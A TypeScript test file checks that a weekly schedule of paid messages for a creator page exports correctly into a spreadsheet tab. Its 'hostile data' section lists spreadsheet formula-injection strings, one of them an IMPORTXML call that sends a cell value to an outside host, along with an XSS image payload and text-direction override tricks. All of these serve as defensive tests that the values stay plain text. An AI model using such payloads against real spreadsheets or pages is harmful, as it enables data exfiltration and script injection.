// A page's week in its tab: what is written, what is held, what hostile data becomes, and in how many calls.
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { losAngelesOffsets } from '../../../src/calendar/los-angeles';
import { messagesCsv } from '../../../src/sheets/page-tab/csv';
import type { ExportContext, ExportResult } from '../../../src/sheets/page-tab/export';
import { exportSchedule } from '../../../src/sheets/page-tab/export';
import { HEAD, PAGE_LAYOUT, pageColumn, pageTabKey } from '../../../src/sheets/page-tab/layout';
import type { MessageRow } from '../../../src/warehouse/rows/messages';
import { OWNER } from '../../workbench/apps-script/spreadsheet/in-context';
import { cells, type Opened, openBook } from '../spreadsheet';
import { ANALYSIS, message, PAGE, SCHEDULE, SUNDAY_BEFORE, WEEK, weekOf } from './rows';

const KEY = pageTabKey(PAGE);
const FIRST = PAGE_LAYOUT.titleRow + 1;

let on: Opened;
beforeEach(async () => {
  on = await openBook();
});
afterEach(() => {
  vi.unstubAllGlobals();
});

function show(rows: readonly MessageRow[], differing: Partial<ExportContext> = {}): ExportResult {
  return exportSchedule(
    on.book,
    { page: PAGE, weekStart: WEEK, scheduleId: SCHEDULE, rows, rollout: 'LIVE', analysis: ANALYSIS, ...differing },
    losAngelesOffsets,
  );
}

const column = (key: Parameters<typeof pageColumn>[0], count: number) =>
  cells(on.tab(KEY), FIRST, pageColumn(key), count, 1).map(([cell]) => cell);
const head = (place: { row: number; column: number }) => cells(on.tab(KEY), place.row, place.column, 1, 1)[0]?.[0];

describe('a valid week of a LIVE page', () => {
  it('stands row by row in time order, days as dates, times as text', () => {
    const result = show([message(2, '2025-03-11T19:47:00'), message(1, '2025-03-10T09:05:00', { pinned: true })]);
    expect(result).toMatchObject({ status: 'SUCCESS', rows: 2, message: '2 messages written.' });
    expect(result.destination).toBe(on.tab(KEY).url());
    expect(on.tab(KEY).displayed({ row: FIRST, column: 1, rows: 2, columns: 3 })).toEqual([
      ['Mon 10 Mar 2025', '09:05', 'PPV'],
      ['Tue 11 Mar 2025', '19:47', 'PPV'],
    ]);
    expect(column('day', 1)).toEqual([new Date('2025-03-10T07:00:00Z')]);
    expect(column('price', 1)).toEqual([15]);
    expect(column('earnings', 1)).toEqual([2520]);
    expect(column('pin', 2)).toEqual([true, false]);
    expect(column('state', 2)).toEqual(['ready', 'ready']);
    expect(column('slot', 2)).toEqual([`${SCHEDULE}#001`, `${SCHEDULE}#002`]);
  });

  it('has a head with saturation by mark and word, tier, score, targets, counts and earnings', () => {
    show(weekOf(4), { displayName: 'Jade ✨' });
    expect(cells(on.tab(KEY), 1, 1, 1, 1)).toEqual([['Jade ✨ · Mon 10 Mar – Sun 16 Mar 2025']]);
    expect(on.tab(KEY).name()).toBe('Jade ✨');
    expect(head(HEAD.saturation)).toBe('● GREEN');
    expect(head(HEAD.saturationText)).toBe(
      'score 0.12 of 1 (HEALTHY; tolerance 0.60) · tier LARGE, about 42,000 reached a message',
    );
    expect(head(HEAD.target)).toBe(
      '8–12 PPV and 6 bumps a day · planned 2 PPV, 2 bumps, 0 follow-ups · $5,040 expected',
    );
    expect(head(HEAD.held)).toBe('no');
    expect(head(HEAD.state)).toBe('ready');
  });

  it('tells warnings, the first four by words', () => {
    const summary = JSON.stringify({
      heldReasons: [],
      warnings: ['a', 'b', 'c'],
      notices: ['d', 'e', 'f'],
      figures: {},
    });
    show(weekOf(2, { summary }));
    expect(head(HEAD.warnings)).toBe('a\nb\nc\nd\n… and 2 more');
  });

  it('offers the weeks around the one shown, and those around today', () => {
    show(weekOf(1), { now: SUNDAY_BEFORE });
    const rule = on.sheet(KEY).grid.cell(HEAD.week.row, HEAD.week.column).rule;
    expect(rule?.values).toEqual(['2025-02-24', '2025-03-03', '2025-03-10', '2025-03-17']);
  });

  it('is 120 rows in at most 26 calls once the tab is there', () => {
    show(weekOf(100));
    on.calls.length = 0;
    expect(show(weekOf(120)).rows).toBe(120);
    expect(on.calls.length).toBeLessThanOrEqual(26);
  });

  it('says how many unsaved rows it wrote over, and none where all was saved', () => {
    show(weekOf(5, { note: 'n' }));
    expect(show(weekOf(5, { note: 'n' })).message).toBe('5 messages written.');
    on.type(KEY, FIRST, pageColumn('note'), 'mine');
    on.type(KEY, FIRST + 1, pageColumn('time'), '20:00');
    on.type(KEY, FIRST + 2, pageColumn('pin'), 'TRUE');
    on.type(KEY, FIRST + 7, pageColumn('caption'), '#12');
    const loss = '4 rows of the tab had changes that were not saved; they were written over.';
    expect(show(weekOf(5)).message).toBe(`5 messages written. ${loss}`);
    expect(head(HEAD.warnings)).toBe(loss);
  });

  it('takes what was saved for saved, however a person wrote it', () => {
    const rows = [message(1, '2025-03-10T21:30:00'), message(2, '2025-03-11T09:05:00')];
    show(rows);
    on.type(KEY, FIRST, pageColumn('time'), '9:30 pm');
    on.type(KEY, FIRST + 1, pageColumn('time'), '9:05');
    expect(show(rows).message).toBe('2 messages written.');
    // Pasted from another sheet, with its format.
    const pasted = { values: [[new Date('2025-03-10T16:05:00Z')]], formats: [['h:mm']] };
    on.tab(KEY).write(FIRST + 1, pageColumn('time'), pasted);
    expect(show(rows).message).toBe('2 messages written.');
  });

  it('counts deleted rows and ticked boxes among what was not saved', () => {
    show(weekOf(5));
    on.person.remove(OWNER, on.sheet(KEY).id, 'ROWS', FIRST, 1, true);
    on.type(KEY, FIRST + 2, pageColumn('approve'), 'TRUE');
    const loss = '2 rows of the tab had changes that were not saved; they were written over.';
    expect(show(weekOf(5)).message).toBe(`5 messages written. ${loss}`);
  });

  it('shows messages that are held by themselves among the others, and approved stays approved', () => {
    const held = {
      status: 'HELD',
      held_from: 'APPROVED',
      held_reason: 'The page is RED (0.70) since Wed 5 Mar.',
    } as const;
    const rows = [
      message(1, '2025-03-10T09:05:00', { status: 'APPROVED' }),
      message(2, '2025-03-11T19:47:00', held),
      message(3, '2025-03-12T19:47:00', held),
    ];
    expect(show(rows)).toMatchObject({ status: 'SUCCESS', rows: 3 });
    expect(column('state', 3)).toEqual(['approved', 'held', 'held']);
    expect(column('approve', 3)).toEqual([true, true, true]);
    expect(head(HEAD.state)).toBe('approved');
    expect(head(HEAD.held)).toBe(
      '2 of its messages. The page is RED (0.70) since Wed 5 Mar. EROS ▸ Release this schedule sends them after all.',
    );
    expect(messagesCsv(rows, ANALYSIS).trim().split('\n')).toHaveLength(2);
  });

  it('leaves nothing of a longer week, and checkboxes beside its own rows alone', () => {
    show(weekOf(30));
    show(weekOf(3));
    expect(on.tab(KEY).lastRow()).toBe(FIRST + 2);
    expect(on.sheet(KEY).grid.cell(FIRST + 3, pageColumn('pin')).rule).toBeUndefined();
    expect(on.sheet(KEY).grid.cell(FIRST + 2, pageColumn('pin')).rule?.criteria).toBe('CHECKBOX');
  });

  it('finds the tab again when it was renamed, and builds it anew when its titles were lost', () => {
    show(weekOf(2));
    on.person.renameSheet(on.sheet(KEY).id, 'My favourite');
    on.type(KEY, PAGE_LAYOUT.titleRow, pageColumn('price'), 'Cost');
    expect(show(weekOf(5)).status).toBe('SUCCESS');
    expect(on.tab(KEY).name()).toBe('My favourite');
    expect(cells(on.tab(KEY), PAGE_LAYOUT.titleRow, pageColumn('price'), 1, 1)).toEqual([['Price, $']]);
    expect(column('kind', 5)).toEqual(['PPV', 'BUMP', 'PPV', 'BUMP', 'PPV']);
  });

  it('builds the tab anew when so many columns were deleted that the sheet is narrower than the week', () => {
    show(weekOf(2));
    on.person.remove(OWNER, on.sheet(KEY).id, 'COLUMNS', pageColumn('caption'), 12, true);
    expect(show(weekOf(5))).toMatchObject({ status: 'SUCCESS', rows: 5 });
    expect(column('kind', 5)).toEqual(['PPV', 'BUMP', 'PPV', 'BUMP', 'PPV']);
    expect(column('slot', 1)).toEqual([`${SCHEDULE}#001`]);
  });
});

describe('what is not to be shown', () => {
  const cases: readonly (readonly [string, Partial<MessageRow>, Partial<ExportContext>, string])[] = [
    ['invalid', { is_valid: false }, {}, 'The schedule breaks a rule.'],
    ['RED', { colour: 'RED' }, {}, 'The audience is saturated (RED)'],
    ['SHADOW', {}, { rollout: 'SHADOW' }, 'The page is SHADOW'],
    ['of an unknown rollout', {}, { rollout: null }, 'The page is SHADOW'],
    ['held', { status: 'HELD' }, {}, 'It is held'],
    ['of another schedule', { schedule_id: 'jade/2025-03-10/9' }, {}, 'is not of schedule'],
  ];
  it.each(cases)('%s: the head says why, former rows go', (_, row, context, reason) => {
    show(weekOf(4));
    const summary = JSON.stringify({ heldReasons: ['Too few captions.'], warnings: [], notices: [] });
    const result = show(weekOf(4, { summary, ...row }), context);
    expect(result).toMatchObject({ status: 'SKIPPED', rows: 0 });
    expect(result.message).toContain(reason);
    expect(head(HEAD.held)).toContain('HELD: Too few captions.\n');
    expect(head(HEAD.held)).toContain(reason);
    expect(head(HEAD.state)).toBe('held');
    expect(on.tab(KEY).lastRow()).toBe(PAGE_LAYOUT.titleRow);
  });

  it('an empty schedule', () => {
    expect(show([])).toMatchObject({ status: 'SKIPPED', rows: 0 });
    expect(head(HEAD.held)).toContain('has no messages');
  });
});

describe('hostile data', () => {
  const hostile = [
    '=IMPORTXML("http://example.com/"&A1,"//a")',
    '+1+1',
    '-2',
    '@SUM(A1)',
    '<img src=x onerror=alert(1)>',
    '\u202Eright to left\u202C',
    'x'.repeat(5000),
    '👩‍👩‍👧 line one\r\nline two',
    '12:30',
    '2025-03-10',
    'TRUE',
    'half \ud83d of a pair',
    'bell \u0007',
    'y'.repeat(60_000),
  ];

  it('is text in caption, note, category, reason and funnel', () => {
    const rows = hostile.map((text, index) =>
      message(index + 1, `2025-03-10T${String(9 + index).padStart(2, '0')}:00:00`, {
        caption_text: text,
        note: text,
        category: text,
        reason: text,
        funnel_id: text,
      }),
    );
    expect(show(rows).status).toBe('SUCCESS');
    for (const key of ['caption', 'note', 'category', 'why', 'funnel'] as const) {
      const shown = column(key, hostile.length);
      expect(shown.every((cell) => typeof cell === 'string')).toBe(true);
      expect(shown.slice(0, 7)).toEqual(hostile.slice(0, 7));
      expect(shown.slice(7, 11)).toEqual(['👩‍👩‍👧 line one\nline two', '12:30', '2025-03-10', 'TRUE']);
      expect(shown.slice(11, 13)).toEqual(['half \ufffd of a pair', 'bell \ufffd']);
      expect(String(shown[13])).toHaveLength(49_000 + '… (cut)'.length);
    }
    const formulas = on
      .sheet(KEY)
      .grid.read(
        { row: FIRST, column: 1, rows: hostile.length, columns: PAGE_LAYOUT.columns.length },
        (cell) => cell.formula ?? '',
      );
    expect(formulas.flat().filter((formula) => formula !== '')).toEqual([]);
  });

  it('stays text where a person has changed the cells’ format', () => {
    show(weekOf(2));
    const sheet = on.sheet(KEY).id;
    on.person.remove(OWNER, sheet, 'ROWS', FIRST, 2, true);
    on.person.insert(OWNER, sheet, 'ROWS', FIRST, 2);
    show([message(1, '2025-03-10T09:05:00', { caption_text: '=1+1' })]);
    expect(column('caption', 1)).toEqual(['=1+1']);
  });

  it.each([
    ['a/b[c]*?:\\d', 'a-b-c-----d'],
    ["'quoted'", 'quoted'],
    ['\u202Eevil\n=cmd', 'evil =cmd'],
    ['', 'Page'],
    ['z'.repeat(150), 'z'.repeat(100)],
  ])('a page called %j gets a tab', (displayName, name) => {
    expect(show(weekOf(1), { displayName }).status).toBe('SUCCESS');
    expect(on.tab(KEY).name()).toBe(name);
    expect(on.sheet(KEY).grid.cell(1, 1).formula).toBeUndefined();
  });

  it('pages whose names differ by case, or by their last letters beyond 100, have a tab each', () => {
    const other = (page: string) =>
      show([message(1, '2025-03-10T09:05:00', { page_name: page })], { page, displayName: null });
    for (const page of ['Jade', 'JADE', `${'😀'.repeat(60)}1`, `${'😀'.repeat(60)}2`]) {
      expect(other(page).status).toBe('SUCCESS');
    }
    const names = on.workbook.sheets.map((sheet) => sheet.name).slice(-4);
    expect(names).toEqual(['Jade', 'JADE (2)', '😀'.repeat(50), `${'😀'.repeat(48)} (2)`]);
  });
});

describe('a spreadsheet that cannot take it', () => {
  it('of another time zone fails and says how to set it', () => {
    on.book.setZone('Europe/Berlin');
    const result = show(weekOf(1));
    expect(result).toMatchObject({ status: 'FAILED', rows: 0 });
    expect(result.message).toContain('Europe/Berlin; it must be America/Los_Angeles');
  });

  it('with a tab of a newer version fails and leaves it alone', () => {
    show(weekOf(2));
    on.tab(KEY).setLabel(JSON.stringify({ layout: PAGE_LAYOUT.version + 1, state: null }));
    expect(show(weekOf(5)).message).toContain('newer version');
    expect(on.tab(KEY).lastRow()).toBe(FIRST + 1);
  });
});
